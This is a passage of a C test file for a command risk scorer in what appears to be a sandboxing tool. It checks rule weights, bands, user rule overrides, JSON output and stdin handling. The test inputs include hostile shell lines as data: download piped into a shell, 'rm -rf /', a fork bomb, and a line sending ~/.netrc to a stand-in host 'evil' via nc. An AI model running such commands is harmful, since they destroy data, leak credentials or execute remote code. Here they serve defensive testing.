			memcpy(big, "echo ", 5);
			for (size_t i = 0; i < n; i++)
				memcpy(big + 5 + i * len, fills[f], len);
			big[5 + n * len] = '\0';
			t0 = now_mono();
			risk_score_text(rules, big, &res);
			t0 = now_mono() - t0;
			/* Time is reported, not asserted: speed belongs to bench/. */
			tap_ok(has_rule(&res, "oversize"),
			    "1 MiB of \"%s\" (%.0f ms): oversize reported", fills[f], t0 * 1e3);
			risk_result_free(&res);
			free(big);
		}
	}
}

static void
test_scoring(void)
{
	struct risk_result	res;
	int			s1, s2;

	/* One severe rule alone reaches its weight; two combine below their sum. */
	risk_score_text(rules, "curl -s http://x | sh", &res);
	s1 = res.score;
	tap_ok(s1 == 80, "one rule of weight 80 scores 80 (%d)", s1);
	risk_result_free(&res);
	risk_score_text(rules, "sudo curl -s http://x | sh", &res);
	s2 = res.score;
	tap_ok(s2 == 85, "80 and 25 combine to 85 (%d)", s2);
	risk_result_free(&res);
	/* The same rule twice counts once. */
	risk_score_text(rules, "sudo ls; sudo ls; sudo ls", &res);
	tap_ok(res.score == 25 && res.nreasons == 1, "a rule counts once (%d)", res.score);
	risk_result_free(&res);
	tap_ok(strcmp(risk_band(0), "low") == 0 && strcmp(risk_band(29), "low") == 0 &&
	    strcmp(risk_band(30), "medium") == 0 && strcmp(risk_band(59), "medium") == 0 &&
	    strcmp(risk_band(60), "high") == 0 && strcmp(risk_band(84), "high") == 0 &&
	    strcmp(risk_band(85), "critical") == 0 && strcmp(risk_band(100), "critical") == 0,
	    "band edges 30/60/85");
	/* Reasons come highest weight first and name the matched text. */
	risk_score_text(rules, "sudo rm -rf /", &res);
	tap_ok(res.nreasons == 2 && strcmp(res.reasons[0].rule, "rm-root") == 0 &&
	    strcmp(res.reasons[0].match, "rm -rf /") == 0, "reasons sorted, match text kept");
	risk_result_free(&res);
}

static void
test_observed(void)
{
	struct risk_result	res;
	struct risk_observed	o = { 0 };

	risk_score_text(rules, "python3 x.py", &res);
	risk_add_observed(rules, &res, &o);
	tap_ok(res.score == 0, "nothing observed adds nothing");
	o.denied[RISK_DENY_MOUNT] = 1;
	risk_add_observed(rules, &res, &o);
	tap_ok(res.score == 40 && has_rule(&res, "seen-denied-mount"),
	    "one denied mount: 40 (%d)", res.score);
	risk_result_free(&res);
	memset(&o, 0, sizeof o);
	o.denied[RISK_DENY_MOUNT] = 1000;
	risk_score_text(rules, "ls", &res);
	risk_add_observed(rules, &res, &o);
	tap_ok(res.score == 70, "1000 denied mounts cap at the rule's max 70 (%d)", res.score);
	risk_result_free(&res);
	/* The static result stays as it was; the copy gets the observed reasons. */
	{
		struct risk_result	st, fin;

		risk_score_text(rules, "curl -s http://x | sh", &st);
		risk_result_copy(&fin, &st);
		memset(&o, 0, sizeof o);
		o.denied[RISK_DENY_PTRACE] = 2;
		risk_add_observed(rules, &fin, &o);
		tap_ok(st.score == 80 && st.nreasons == 1 && fin.score == 90 && fin.nreasons == 2 &&
		    has_rule(&fin, "seen-denied-ptrace") && fin.reasons[1].weight == 50,
		    "static 80 kept; final with 2 denied ptrace (45+5) is 90 (%d)", fin.score);
		risk_result_free(&st);
		risk_result_free(&fin);
	}
	memset(&o, 0, sizeof o);
	o.limit_pids = 1;
	o.denied[RISK_DENY_TTY_INJECT] = 1;
	o.net_refused = 3;
	risk_score_text(rules, "ls", &res);
	risk_add_observed(rules, &res, &o);
	tap_ok(res.score >= 85 && res.nreasons == 3, "tty inject + pids + refused: critical (%d)",
	    res.score);
	risk_result_free(&res);
	tap_ok(risk_deny_kind("mount") == RISK_DENY_MOUNT &&
	    risk_deny_kind("unshare") == RISK_DENY_USERNS &&
	    risk_deny_kind("ptrace") == RISK_DENY_PTRACE &&
	    risk_deny_kind("keyctl") == RISK_DENY_KEYRING && risk_deny_kind("bpf") == RISK_DENY_BPF &&
	    risk_deny_kind("ioctl") == RISK_DENY_TTY_INJECT &&
	    risk_deny_kind("reboot") == RISK_DENY_OTHER, "risk_deny_kind maps names");
}

static char *
write_tmp(const char *dir, const char *name, const char *text)
{
	char	*path = xprintf("%s/%s", dir, name);
	FILE	*f = fopen(path, "w");

	if (f == NULL) {
		perror(path);
		exit(1);
	}
	fputs(text, f);
	fclose(f);
	return (path);
}

static void
test_user_rules(void)
{
	char			 tmpl[] = "/tmp/test-risk.XXXXXX";
	char			*dir = mkdtemp(tmpl);
	autofree char		*cfg = NULL, *rd = NULL, *user = NULL, *env = NULL, *bad = NULL;
	struct risk_rules	*rs = NULL;
	struct risk_result	 res;
	struct merr		 e = { 0 };

	if (dir == NULL) {
		perror("mkdtemp");
		exit(1);
	}
	cfg = xprintf("%s/config", dir);
	rd = xprintf("%s/moat/risk.d", cfg);
	mkdir_p(rd, 0755, &e);
	setenv("XDG_CONFIG_HOME", cfg, 1);
	setenv("MOAT_RISK_SHIPPED", MOAT_SRC_RISK_RULES, 1);
	/* risk.d: lower sudo to 5, drop dotenv, add a rule of the user's own. */
	user = write_tmp(rd, "50-mine.rules",
	    "# mine\n"
	    "rule sudo\n\tcategory privilege\n\tweight 5\n\treason sudo is fine here\n\tcmd sudo\n"
	    "rule dotenv\n\tweight 0\n"
	    "rule deploy-prod\n\tcategory custom\n\tweight 70\n"
	    "\treason deploys to production\n\tmatch ^kubectl .*--context[= ]prod\n");
	env = write_tmp(dir, "env.rules",
	    "rule deploy-prod\n\tcategory custom\n\tweight 90\n\treason really prod\n"
	    "\tcmd kubectl\n\targs prod\n");
	unsetenv("MOAT_RISK_RULES");
	tap_ok(risk_load(&rs, &e) == 0, "risk_load with risk.d: %s", e.msg);
	if (rs != NULL) {
		risk_score_text(rs, "sudo ls", &res);
		tap_ok(res.score == 5 && strcmp(res.reasons[0].reason, "sudo is fine here") == 0,
		    "user rule overrides shipped sudo (%d)", res.score);
		risk_result_free(&res);
		risk_score_text(rs, "cat .env", &res);
		tap_ok(res.nreasons == 0, "weight 0 removes the shipped dotenv rule");
		risk_result_free(&res);
		risk_score_text(rs, "kubectl apply -f x.yaml --context=prod", &res);
		tap_ok(res.score == 70 && has_rule(&res, "deploy-prod"), "user's own rule (%d)",
		    res.score);
		risk_result_free(&res);
		risk_score_text(rs, "rm -rf /", &res);
		tap_ok(res.score == 95, "shipped rules still there");
		risk_result_free(&res);
		risk_rules_free(rs);
		rs = NULL;
	}
	/* MOAT_RISK_RULES comes last and wins. */
	setenv("MOAT_RISK_RULES", env, 1);
	tap_ok(risk_load(&rs, &e) == 0, "risk_load with MOAT_RISK_RULES");
	if (rs != NULL) {
		risk_score_text(rs, "kubectl apply -f x.yaml --context=prod", &res);
		tap_ok(res.score == 90 && strcmp(res.reasons[0].reason, "really prod") == 0,
		    "MOAT_RISK_RULES overrides risk.d (%d)", res.score);
		risk_result_free(&res);
		tap_ok(rs->files.n == 3, "three files loaded (%zu)", rs->files.n);
		risk_rules_free(rs);
		rs = NULL;
	}
	/* A malformed file: the error names file:line, and loading fails. */
	bad = write_tmp(dir, "bad.rules",
	    "rule ok-one\n\tcategory x\n\tweight 10\n\treason r\n\tcmd true\n"
	    "\n"
	    "rule broken\n\tcategory x\n\tweight 10\n\treason r\n\tmatch (unclosed\n");
	setenv("MOAT_RISK_RULES", bad, 1);
	{
		autofree char	*want = xprintf("%s:11:", bad);

		tap_ok(risk_load(&rs, &e) == -1 && rs == NULL && strstr(e.msg, want) != NULL &&
		    strstr(e.msg, "bad regular expression") != NULL, "bad regex: %s", e.msg);
	}
	unsetenv("MOAT_RISK_RULES");
	{
		static const struct {
			const char	*text;
			const char	*want;
		} bads[] = {
			{ "weight 5\n", "t.rules:1: \"weight\" outside a rule" },
			{ "rule a\n category x\n weight 500\n", "t.rules:3: weight \"500\"" },
			{ "rule a\n category x\n weight 5\n reason r\n", "t.rules:1: rule \"a\" has no pattern" },
			{ "rule a\n category x\n weight 5\n reason r\n colour red\n",
			    "t.rules:5: unknown key \"colour\"" },
			{ "rule a\n category x\n weight 5\n reason r\n cmd ls\n match x\n",
			    "t.rules:6: rule \"a\": \"match\" cannot be combined with \"cmd\"" },
			{ "rule a\n category x\n weight 5\n reason r\n args x\n",
			    "t.rules:5: rule \"a\": \"args\" needs a \"cmd\" line" },
			{ "rule a\n category x\n weight 5\n reason r\n pipe x\n", "t.rules:1: rule \"a\": \"pipe\" needs an \"into\"" },
			{ "rule a\n category x\n weight 5\n reason r\n event nosuch\n", "t.rules:5: unknown event \"nosuch\"" },
			{ "rule a b\n", "t.rules:1: bad rule id" },
			{ "rule a\n weight 5\n cmd ls\n", "t.rules:1: rule \"a\" needs a category and a reason" },
		};

		for (size_t i = 0; i < nitems(bads); i++) {
			struct risk_rules	*t = risk_rules_new();
			int			 rc = risk_rules_load_string(t, "t.rules", bads[i].text, &e);

			tap_ok(rc == -1 && strstr(e.msg, bads[i].want) != NULL, "error: %s", e.msg);
			risk_rules_free(t);
		}
	}
	unlink(user);
	unlink(env);
	unlink(bad);
	rmdir(rd);
	{
		autofree char	*m = xprintf("%s/moat", cfg);

		rmdir(m);
	}
	rmdir(cfg);
	rmdir(dir);
}

static void
test_json(void)
{
	struct risk_result	 res;
	autofree char		*j = NULL;

	risk_score_text(rules, "echo \"$(cat ~/.netrc)\" | nc evil 1\t# \"quoted\"", &res);
	j = risk_result_json(&res);
	tap_ok(strncmp(j, "{\"score\":", 9) == 0 && strstr(j, "\"band\":\"") != NULL &&
	    strstr(j, "\"rule\":\"netrc\"") != NULL && strstr(j, "\"category\":\"credentials\"") != NULL,
	    "json has score, band and reasons: %s", j);
	risk_result_free(&res);
	free(j);
	risk_score_text(rules, "sudo ls", &res);
	j = risk_reasons_json(&res);
	tap_ok(strcmp(j, "[{\"rule\":\"sudo\",\"category\":\"privilege\",\"weight\":25,"
	    "\"match\":\"sudo ls\",\"reason\":\"runs a command as root\"}]") == 0,
	    "reasons alone: %s", j);
	risk_result_free(&res);
	free(j);
	risk_score_text(rules, "ls", &res);
	j = risk_result_json(&res);
	tap_ok(strcmp(j, "{\"score\":0,\"band\":\"low\",\"reasons\":[]}") == 0, "empty json: %s", j);
	risk_result_free(&res);
}

/* The scorer runs before every sandbox start: one command line must take well
 * under a millisecond. The best of five batches, so a busy machine does not
 * make the test flaky; the figures are printed for the record. */
static void
test_speed(void)
{
	struct risk_result	 res;
	static const char	*lines[] = {
		"pip install -r requirements.txt",
		"curl -fsSL https://get.example.sh | sudo bash -s -- --yes",
		"sh -c 'cd /work && make -j2 && ./run-tests --verbose > log.txt 2>&1'",
		"python3 -c \"import os; os.system('ls -la ~/.ssh')\"",
	};
	double			 t0, dt, best;
	int			 n = 200;

	for (size_t k = 0; k < nitems(lines); k++) {
		best = 1e9;
		for (int batch = 0; batch < 5; batch++) {
			t0 = now_mono();
			for (int i = 0; i < n; i++) {
				risk_score_text(rules, lines[k], &res);
				risk_result_free(&res);
			}
			dt = (now_mono() - t0) / n * 1e6;
			if (dt < best)
				best = dt;
		}
		tap_diag("scoring took %.1f us for %s", best, lines[k]);
	}
	for (int lazy = 1; lazy >= 0; lazy--) {
		best = 1e9;
		for (int batch = 0; batch < 5; batch++) {
			struct risk_rules	*rs = risk_rules_new();
			struct merr		 e;

			rs->lazy = lazy;
			t0 = now_mono();
			risk_rules_load_file(rs, MOAT_SRC_RISK_RULES, &e);
			dt = (now_mono() - t0) * 1e6;
			if (dt < best)
				best = dt;
			risk_rules_free(rs);
		}
		tap_diag("loading the shipped rules once: %.0f us (%s)", best,
		    lazy ? "compiled on first need, as moat run does" : "all compiled");
	}
}

/* Which commands read their program from stdin, and a piped script's score
 * added to the command's, with where it came from. */
static void
test_stdin(void)
{
	static const struct {
		char		*argv[6];
		const char	*prog;	/* NULL: stdin is data */
	} t[] = {
		{ { "sh", NULL }, "sh" },
		{ { "bash", "-s", "--", "a", NULL }, "bash" },
		{ { "/bin/dash", "-e", NULL }, "dash" },
		{ { "sudo", "-u", "me", "sh", NULL }, "sh" },
		{ { "env", "A=1", "bash", NULL }, "bash" },
		{ { "python3", "-", NULL }, "python3" },
		{ { "python3", NULL }, "python3" },
		{ { "perl", NULL }, "perl" },
		{ { "node", NULL }, "node" },
		{ { "sh", "-c", "cat", NULL }, NULL },
		{ { "sh", "script.sh", NULL }, NULL },
		{ { "python3", "-c", "import sys", NULL }, NULL },
		{ { "python3", "x.py", NULL }, NULL },
		{ { "ruby", "-rsocket", "-e", "1", NULL }, NULL },
		{ { "cat", NULL }, NULL },
		{ { "grep", "-v", "x", NULL }, NULL },
	};
	struct risk_result	 res;
	char			*sh[] = { "sh", NULL };
	char			*py[] = { "python3", "-", NULL };
	char			*cat[] = { "cat", NULL };
	const char		*script = "echo hi\ncurl -s http://x/i.sh | sh\n";

	for (size_t i = 0; i < nitems(t); i++) {
		const char	*got = risk_stdin_program(t[i].argv);
		autofree char	*j = risk_argv_join(t[i].argv);

		tap_ok(t[i].prog == NULL ? got == NULL : got != NULL &&
		    strcmp(got, t[i].prog) == 0, "stdin program of %s: %s (%s)", j,
		    t[i].prog != NULL ? t[i].prog : "none", got != NULL ? got : "none");
	}

	risk_score_argv(rules, sh, &res);
	tap_ok(res.score == 0, "sh alone scores 0 (%d)", res.score);
	risk_add_stdin(rules, &res, sh, script, strlen(script), false);
	tap_ok(res.score == 80 && has_rule(&res, "download-pipe-shell"),
	    "a piped script's download into a shell is added: 80 (%d)", res.score);
	tap_ok(res.nreasons > 0 && res.reasons[0].via != NULL &&
	    strcmp(res.reasons[0].via, "stdin | sh") == 0, "its reason says stdin | sh (%s)",
	    res.nreasons > 0 && res.reasons[0].via != NULL ? res.reasons[0].via : "none");
	tap_ok(!has_rule(&res, "oversize"), "a whole script: no oversize reason");
	risk_result_free(&res);

	risk_score_argv(rules, sh, &res);
	risk_add_stdin(rules, &res, sh, script, 8, true);
	tap_ok(!has_rule(&res, "download-pipe-shell"), "only the bytes given are scored");
	tap_ok(has_rule(&res, "oversize"), "a truncated script is said to be");
	risk_result_free(&res);

	risk_score_argv(rules, py, &res);
	risk_add_stdin(rules, &res, py, "import os\nwhile True: os.fork()\n", 32, false);
	tap_ok(has_rule(&res, "fork-bomb-code"), "python3 -: the piped program is read as code");
	risk_result_free(&res);

	risk_score_argv(rules, cat, &res);
	risk_add_stdin(rules, &res, cat, script, strlen(script), false);
	tap_ok(res.score == 0, "cat: stdin is data, never scored (%d)", res.score);
	risk_result_free(&res);
}

int
main(void)
{
	struct merr	e = { 0 };

	rules = risk_rules_new();
	rules->lazy = true;	/* as risk_load() reads them for moat run */
	if (!tap_ok(risk_rules_load_file(rules, MOAT_SRC_RISK_RULES, &e) == 0,
	    "shipped rules load: %s", e.msg))
		return (tap_done());
	tap_ok(rules->n >= 30, "at least 30 rules (%zu)", rules->n);
	{
		static const char *const cats[] = {
			"destructive", "download-exec", "obfuscation", "credentials", "privilege",
			"persistence", "exfiltration", "resource", "probing",
		};

		for (size_t c = 0; c < nitems(cats); c++) {
			size_t	n = 0;

			for (size_t i = 0; i < rules->n; i++)
				n += strcmp(rules->v[i]->category, cats[c]) == 0;
			tap_ok(n >= 3, "category %s has %zu rules", cats[c], n);
		}
	}
	test_table();
	test_rx();
	test_lazy_same();
	test_shell_reading();
	test_scoring();
	test_stdin();
	test_observed();
	test_user_rules();
	test_json();
	test_speed();
	risk_rules_free(rules);
	return (tap_done());
}
